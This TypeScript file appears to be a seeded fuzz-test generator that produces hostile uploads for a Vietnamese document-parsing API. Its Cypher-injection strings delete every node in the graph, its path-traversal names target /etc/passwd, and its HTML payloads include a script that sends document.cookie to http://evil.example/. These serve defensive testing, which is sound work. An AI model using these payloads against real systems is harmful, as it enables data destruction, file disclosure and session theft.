/**
 * Hostile uploads (issue 10, item 7): what a careless or malicious client may send to
 * POST /api/documents, made deterministically from a seed so that a failing run can be replayed.
 * Case k is the same whatever the count asked for (each case draws from its own stream), and the
 * categories take turns, so any 18 consecutive cases hold one of each.
 */
import iconv from 'iconv-lite';
import { Prng } from './prng.js';
import {
  kl69Bytes,
  newsArticleBytes,
  planDocxBytes,
  realDocuments,
  textPdfBytes,
  zipBombBytes,
  type RealFile,
} from './hostile-sources.js';
import { encodeTcvn3 } from './tcvn3.js';
import { entryCountBomb, lyingZip, smallZipBomb, zipOf } from './hostile-zips.js';

export const HOSTILE_CATEGORIES = [
  'random-bytes',
  'utf16',
  'legacy-encoding',
  'nul-bytes',
  'long-line',
  'big-table',
  'cypher-title',
  'path-traversal',
  'html-script',
  'word-salad',
  'truncated-copy',
  'shuffled-copy',
  'kl69-prefix',
  'news-article',
  'empty-body',
  'wrong-content-type',
  'zip-bomb',
  'truncated-pdf',
] as const;
export type HostileCategory = (typeof HOSTILE_CATEGORIES)[number];

export interface HostileCase {
  name: string;
  category: HostileCategory;
  /** Sent as ?fileName= (URL-encoded): anything a client can put there. */
  fileName: string;
  /** The Content-Type header; null: none sent. */
  contentType: string | null;
  body: Buffer;
}

type Made = Omit<HostileCase, 'name' | 'category'> & { what: string };
type Maker = (rng: Prng, k: number, size: Sizes) => Made;

/**
 * The sizes of the heavy cases: the issue's in the bench (`full`); in `npm test` (`reduced`) a
 * tenth of the line and 4,000 rows, still far over what a document may have (a paragraph's
 * length, 3,000 items), so they take the same way at a fraction of the time.
 */
const SIZES = {
  full: { lineBytes: 1_000_000, tableRows: 10_000 },
  reduced: { lineBytes: 100_000, tableRows: 4_000 },
};
export type HostileSize = keyof typeof SIZES;
type Sizes = (typeof SIZES)[HostileSize];

const DOCX_TYPE = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document';
const TEXT = 'text/plain; charset=utf-8';
const OCTET = 'application/octet-stream';
const ACCEPTED_TYPES = ['text/plain', TEXT, 'text/markdown', 'text/html', 'application/pdf', DOCX_TYPE, OCTET];

export function hostileCases(seed: number, count: number, size: HostileSize = 'full'): HostileCase[] {
  return Array.from({ length: count }, (_, k) => hostileCase(seed, k, size));
}

export function hostileCase(seed: number, k: number, size: HostileSize = 'full'): HostileCase {
  const category = HOSTILE_CATEGORIES[k % HOSTILE_CATEGORIES.length]!;
  const rng = new Prng((seed ^ Math.imul(k + 1, 0x9e3779b9)) >>> 0);
  const { what, ...made } = MAKERS[category](rng, k, SIZES[size]);
  return { name: `#${k} ${category}: ${what}`, category, ...made };
}

// ------------------------------------------------------------------------------ helpers ----

const baseName = (f: RealFile) => f.path.split('/').pop()!.replace(/\.\w+$/, '');
const textOf = (f: RealFile) => f.bytes.toString('utf8');

/** The start of a UTF-8 sequence at or before `at`, so a cut or an insertion keeps the text valid. */
function charBoundary(bytes: Buffer, at: number): number {
  let i = Math.min(at, bytes.length);
  while (i > 0 && i < bytes.length && (bytes[i]! & 0xc0) === 0x80) i--;
  return i;
}

function repeatTo(unit: string, size: number): string {
  return unit.repeat(Math.ceil(size / Buffer.byteLength(unit)));
}

/** Words of the real documents, for word salad and long lines. */
let vocabulary: string[] | undefined;
function words(): string[] {
  vocabulary ??= [...new Set(realDocuments().slice(0, 20).flatMap((f) => textOf(f).toLowerCase().match(/\p{L}+/gu) ?? []))].sort();
  return vocabulary;
}
const wordRun = (rng: Prng, n: number) => Array.from({ length: n }, () => rng.pick(words())).join(' ');

/** The opening of a provincial plan numbered after the case (10000 + k): no real document's, nor another case's. */
function planHeader(k: number, title = 'KẾ HOẠCH'): string[] {
  return [
    'ỦY BAN NHÂN DÂN TỈNH BÌNH THUẬN',
    'CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM',
    `Số: ${10_000 + k}/KH-UBND`,
    'Bình Thuận, ngày 12 tháng 3 năm 2025',
    title,
    'Triển khai Kết luận số 69-KL/TW ngày 11/01/2024 của Bộ Chính trị',
  ];
}

/** Windows-1258 writes tone marks as separate combining bytes after a precomposed base (â, ơ, ư…). */
function cp1258(text: string): Buffer {
  const form = text.normalize('NFD').replace(/[aeouAEOU][\u0302\u0306\u031b]/g, (m) => m.normalize('NFC'));
  return iconv.encode(form, 'windows1258');
}

// ------------------------------------------------------------------------------ makers -----

const MAKERS: Record<HostileCategory, Maker> = {
  'random-bytes': (rng, k) => {
    // After a format's signature the random bytes reach that format's reader, not just the sniffer.
    const prefix = rng.pick(['', '%PDF-1.7\n', 'PK\u0003\u0004', '<!doctype html><html><body>', '\ufeff', '{\\rtf1']);
    const size = rng.pick([1, 2, 16, 1024, 65_536, rng.int(1, 300_000)]);
    return {
      what: `${size} random bytes after ${JSON.stringify(prefix)}`,
      fileName: `random-${k}${rng.pick(['.txt', '.md', '.pdf', '.docx', '.html', '.bin', ''])}`,
      contentType: rng.pick(ACCEPTED_TYPES),
      body: Buffer.concat([Buffer.from(prefix), rng.bytes(size)]),
    };
  },

  utf16: (rng, k) => {
    const doc = rng.pick(realDocuments());
    const le = Buffer.from(textOf(doc), 'utf16le');
    const variant = rng.pick(['LE with BOM', 'BE with BOM', 'LE without BOM', 'BE without BOM'] as const);
    const body = variant.startsWith('BE') ? Buffer.from(le).swap16() : le;
    const bom = variant.startsWith('LE') ? [0xff, 0xfe] : [0xfe, 0xff];
    return {
      what: `${doc.path} in UTF-16 ${variant}`,
      fileName: `${baseName(doc)}-utf16-${k}.txt`,
      contentType: rng.pick([TEXT, 'text/plain; charset=utf-16', OCTET]),
      body: variant.includes('with BOM') ? Buffer.concat([Buffer.from(bom), body]) : body,
    };
  },

  'legacy-encoding': (rng, k) => {
    const doc = rng.pick(realDocuments());
    const tcvn = rng.next() < 0.5;
    return {
      what: `${doc.path} in ${tcvn ? 'TCVN3' : 'Windows-1258'}`,
      fileName: `${baseName(doc)}-${tcvn ? 'tcvn3' : 'cp1258'}-${k}.txt`,
      contentType: rng.pick([TEXT, 'text/plain', OCTET]),
      body: tcvn ? encodeTcvn3(textOf(doc)) : cp1258(textOf(doc)),
    };
  },

  'nul-bytes': (rng, k) => {
    const doc = rng.pick(realDocuments());
    // Between characters the rest stays valid UTF-8; past the first 8 KB, past a sniffer's sample.
    const atBoundary = rng.next() < 0.7;
    const offsets = Array.from({ length: rng.int(1, 5) }, () => rng.int(0, doc.bytes.length))
      .map((at) => (atBoundary ? charBoundary(doc.bytes, at) : at))
      .sort((a, b) => a - b);
    const parts: Buffer[] = [];
    let from = 0;
    for (const at of offsets) {
      parts.push(doc.bytes.subarray(from, at), Buffer.from([0]));
      from = at;
    }
    parts.push(doc.bytes.subarray(from));
    return {
      what: `${doc.path} with NUL at ${offsets.join(', ')}${atBoundary ? '' : ' (inside characters)'}`,
      fileName: `${baseName(doc)}-nul-${k}.txt`,
      contentType: rng.pick([TEXT, OCTET]),
      body: Buffer.concat(parts),
    };
  },

  'long-line': (rng, k, { lineBytes }) => {
    // Runs of what the parser's patterns look for: markers, table pipes, bold, numbers, agencies.
    const unit = rng.pick([null, 'a', ' ', '-', '|', '*', '1.', 'Số: ', '**', '\t', '…', 'ễ', '(', 'Sở ', 'chủ trì, ', 'I.1.', '- ']);
    const line = unit === null ? wordRun(rng, lineBytes / 6).slice(0, lineBytes) : repeatTo(unit, lineBytes);
    const withHeader = rng.next() < 0.5;
    return {
      what: `a ${Buffer.byteLength(line)}-byte line of ${unit === null ? 'words' : JSON.stringify(unit)}${withHeader ? ' after a plan header' : ''}`,
      fileName: `long-line-${k}.txt`,
      contentType: rng.pick([TEXT, OCTET]),
      body: Buffer.from(withHeader ? [...planHeader(k), line].join('\n') : line),
    };
  },

  'big-table': (rng, k, { tableRows }) => {
    const agencies = ['Sở Tài chính', 'Sở Khoa học và Công nghệ', 'Sở Nội vụ', 'Các sở, ban, ngành', 'UBND các huyện'];
    const pipes = rng.next() < 0.25;
    const cells = (c: string[]) => (pipes ? `| ${c.join(' | ')} |` : c.join('\t'));
    const rows = Array.from({ length: tableRows }, (_, i) =>
      cells([String(i + 1), wordRun(rng, rng.int(3, 12)), rng.pick(agencies), rng.pick(agencies), `Năm ${rng.int(2024, 2030)}`]),
    );
    const head = cells(['STT', 'Nhiệm vụ', 'Cơ quan chủ trì', 'Cơ quan phối hợp', 'Thời gian hoàn thành']);
    return {
      what: `a plan with a ${tableRows}-row table${pipes ? ' written between pipes' : ''}`,
      fileName: `bang-${tableRows}-dong-${k}.txt`,
      contentType: rng.pick([TEXT, 'text/markdown', OCTET]),
      body: Buffer.from([...planHeader(k), 'II. NHIỆM VỤ', head, ...rows].join('\n')),
    };
  },

  'cypher-title': (rng, k) => {
    const injection = rng.pick([
      "'}) MATCH (n) DETACH DELETE n //",
      '"}) MATCH (n) DETACH DELETE n //',
      '`) DETACH DELETE n RETURN 1 //',
      "\\'; MATCH (n) SET n.stub = true; //",
      "{id: 'vn/tw/kl/69/2024'}) DETACH DELETE d //",
      "') UNION MATCH (n) RETURN n //",
      '$id}) CALL db.clearQueryCaches() //',
      '${process.env.API_TOKEN}',
    ]);
    const lines = [
      ...planHeader(k, `KẾ HOẠCH ${injection}`),
      'I. MỤC ĐÍCH, YÊU CẦU',
      `Nâng cao nhận thức về khoa học, công nghệ ${injection}.`,
      'II. NHIỆM VỤ TRỌNG TÂM',
      `1. Xây dựng cơ sở dữ liệu khoa học và công nghệ của tỉnh ${injection}`,
      `Sở Khoa học và Công nghệ ${injection} chủ trì, phối hợp với Sở Tài chính; thời gian: năm 2025.`,
      '2. Hỗ trợ doanh nghiệp đổi mới công nghệ',
      `Sở Công Thương chủ trì, phối hợp với ${injection}; thời gian: thường xuyên.`,
      'KT. CHỦ TỊCH',
      'PHÓ CHỦ TỊCH',
    ];
    return {
      what: `a plan whose title, task and agencies carry ${JSON.stringify(injection)}`,
      fileName: rng.next() < 0.5 ? `ke-hoach-${10_000 + k}.txt` : `${injection.replace(/[/\\]/g, '_')}-${k}.txt`,
      contentType: TEXT,
      body: Buffer.from(lines.join('\n')),
    };
  },

  'path-traversal': (rng, k) => {
    const name = rng.pick([
      '../../etc/passwd',
      '../../../../../../../../etc/passwd',
      '..\\..\\windows\\win.ini',
      '/etc/passwd',
      'C:\\Windows\\system.ini',
      'a/b/c.txt',
      'ke-hoach.txt/',
      '\\\\server\\share\\ke-hoach.txt',
      'ke-hoach\u0000.txt',
      'ke-hoach.txt\u0000.pdf',
      '\u0000',
      `${'A'.repeat(rng.int(256, 4000))}.txt`,
      `${'ễ'.repeat(rng.int(100, 250))}.txt`,
      '..',
      '.',
      '....//....//etc/passwd',
      '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
      'file:///etc/passwd',
      ' ',
      'con',
      '<script>alert(1)</script>.txt',
      '\u202etxt.exe',
      'ke hoach\r\nX-Injected: 1.txt',
    ]);
    const doc = rng.pick(realDocuments().filter((f) => f.bytes.length < 40_000));
    return {
      what: `${doc.path} as ${JSON.stringify(name.length > 60 ? `${name.slice(0, 20)}…(${name.length} chars)` : name)}`,
      fileName: name,
      contentType: TEXT,
      body: doc.bytes,
    };
  },

  'html-script': (rng, k) => {
    const doc = rng.pick(realDocuments().filter((f) => f.bytes.length < 60_000));
    const paragraphs = textOf(doc)
      .split('\n')
      .map((l) => `<p onclick="fetch('/api/documents',{method:'DELETE'})">${l.replace(/&/g, '&amp;').replace(/</g, '&lt;')}</p>`);
    const evil = [
      '<script>fetch("/api/documents?id=vn%2Ftw%2Fkl%2F69%2F2024",{method:"DELETE"})</script>',
      '<img src=x onerror="alert(document.cookie)">',
      '<a href="javascript:alert(1)">KẾ HOẠCH</a>',
      '<iframe src="file:///etc/passwd"></iframe>',
      '<svg onload=alert(1)><script>alert(2)</script></svg>',
      '<style>body{background:url("javascript:alert(1)")}</style>',
    ];
    const at = rng.int(0, paragraphs.length);
    paragraphs.splice(at, 0, ...rng.shuffle(evil).slice(0, rng.int(1, evil.length)));
    const html = `<!doctype html><html><head><script>document.location="http://evil.example/"+document.cookie</script></head><body>${paragraphs.join('\n')}<script>alert("end")</script></body></html>`;
    return {
      what: `${doc.path} as a web page with scripts`,
      fileName: `${baseName(doc)}-${k}.html`,
      contentType: rng.pick(['text/html', 'text/html; charset=utf-8', OCTET]),
      body: Buffer.from(html),
    };
  },

  'word-salad': (rng, k) => {
    const lines = Array.from({ length: rng.int(1, 300) }, () => wordRun(rng, rng.int(1, 30)));
    // Some salads open like a plan, so they get past "not a document" into the parser proper.
    const opened = rng.next() < 0.5 ? [...planHeader(k), ...lines] : lines;
    return {
      what: `${opened.length} lines of random words${opened === lines ? '' : ' after a plan header'}`,
      fileName: `salad-${k}.txt`,
      contentType: TEXT,
      body: Buffer.from(opened.join('\n')),
    };
  },

  'truncated-copy': (rng, k) => {
    const doc = rng.pick(realDocuments());
    // Any byte offset: inside a UTF-8 sequence as often as not.
    const at = rng.int(0, doc.bytes.length);
    return {
      what: `${doc.path} cut at byte ${at} of ${doc.bytes.length}`,
      fileName: `${baseName(doc)}-cut-${k}${doc.path.endsWith('.md') ? '.md' : '.txt'}`,
      contentType: rng.pick([TEXT, 'text/markdown', OCTET]),
      body: doc.bytes.subarray(0, at),
    };
  },

  'shuffled-copy': (rng, k) => {
    const doc = rng.pick(realDocuments());
    const shuffled = rng.shuffle(textOf(doc).split('\n'));
    return {
      what: `${doc.path} with its ${shuffled.length} lines shuffled`,
      fileName: `${baseName(doc)}-shuffled-${k}.txt`,
      contentType: rng.pick([TEXT, OCTET]),
      body: Buffer.from(shuffled.join('\n')),
    };
  },

  'kl69-prefix': (rng, k) => {
    const whole = kl69Bytes();
    const n = rng.int(0, whole.length);
    return {
      what: `the first ${n} of ${whole.length} bytes of 69-KL/TW`,
      fileName: `kl-69-dau-${n}-${k}.md`,
      contentType: rng.pick([TEXT, 'text/markdown']),
      body: whole.subarray(0, n),
    };
  },

  'news-article': (rng, k) => {
    const article = newsArticleBytes();
    // The article as published, or cut, or with a paragraph of the conclusion's own words added.
    const variant = rng.pick(['whole', 'cut', 'with a quoted directive'] as const);
    const body =
      variant === 'whole'
        ? article
        : variant === 'cut'
          ? article.subarray(0, charBoundary(article, rng.int(200, article.length)))
          : Buffer.concat([article, Buffer.from('\n\n'), kl69Bytes().subarray(0, charBoundary(kl69Bytes(), rng.int(2000, 8000)))]);
    return { what: `the news article about 69-KL/TW (${variant})`, fileName: `tin-bai-${k}.txt`, contentType: rng.pick([TEXT, 'text/html', OCTET]), body };
  },

  'empty-body': (rng, k) => {
    const body = rng.pick(['', ' ', '\n\n\n', '\r\n', '\t \t', '\ufeff', '\ufeff\n ', '\u00a0', '\u200b']);
    return {
      what: `body ${JSON.stringify(body)}`,
      fileName: `rong-${k}${rng.pick(['.txt', '.pdf', '.docx', '.html'])}`,
      contentType: rng.pick(ACCEPTED_TYPES),
      body: Buffer.from(body),
    };
  },

  'wrong-content-type': (rng, k) => {
    const type = rng.pick([
      null,
      '',
      'application/json',
      'application/x-www-form-urlencoded',
      'multipart/form-data; boundary=----x',
      'image/png',
      'text/csv',
      'text/plain-evil',
      'application/pdfx',
      'text/html5',
      '*/*',
      'text/plain, application/json',
      'application/xml',
    ]);
    const doc = rng.pick(realDocuments().filter((f) => f.bytes.length < 40_000));
    return { what: `${doc.path} sent as ${JSON.stringify(type)}`, fileName: `${baseName(doc)}-${k}.txt`, contentType: type, body: doc.bytes };
  },

  'zip-bomb': (rng, k) => {
    const variant = rng.pick(['the 60 MB fixture', 'a 20 MB bomb', 'twenty thousand entries', 'a lying directory', 'a ZIP in a ZIP', 'escaping entry names', 'a cut DOCX'] as const);
    const body = (() => {
      switch (variant) {
        case 'the 60 MB fixture':
          return zipBombBytes();
        case 'a 20 MB bomb':
          return smallZipBomb();
        case 'twenty thousand entries':
          return entryCountBomb();
        case 'a lying directory':
          return lyingZip();
        case 'a ZIP in a ZIP':
          return zipOf({ 'word/document.xml': zipBombBytes() });
        case 'escaping entry names':
          return zipOf({ '../../../../tmp/evil.xml': Buffer.from('<x/>'), 'word/document.xml': Buffer.from('<w:document/>'), '/etc/passwd': Buffer.from('root') });
        case 'a cut DOCX': {
          const docx = planDocxBytes();
          return docx.subarray(0, rng.int(4, docx.length - 1));
        }
      }
    })();
    return { what: variant, fileName: `bomb-${k}.docx`, contentType: rng.pick([DOCX_TYPE, OCTET]), body };
  },

  'truncated-pdf': (rng, k) => {
    const pdf = textPdfBytes();
    const variant = rng.pick(['cut', 'cut', 'cut', 'header only', 'body without its end'] as const);
    const body =
      variant === 'cut'
        ? pdf.subarray(0, rng.int(1, pdf.length - 1))
        : variant === 'header only'
          ? Buffer.from('%PDF-1.7\n')
          : Buffer.concat([pdf.subarray(0, pdf.lastIndexOf('xref')), Buffer.from('%%EOF\n')]);
    return { what: `the text-layer PDF: ${variant} (${body.length} of ${pdf.length} bytes)`, fileName: `ke-hoach-${k}.pdf`, contentType: rng.pick(['application/pdf', OCTET]), body };
  },
};
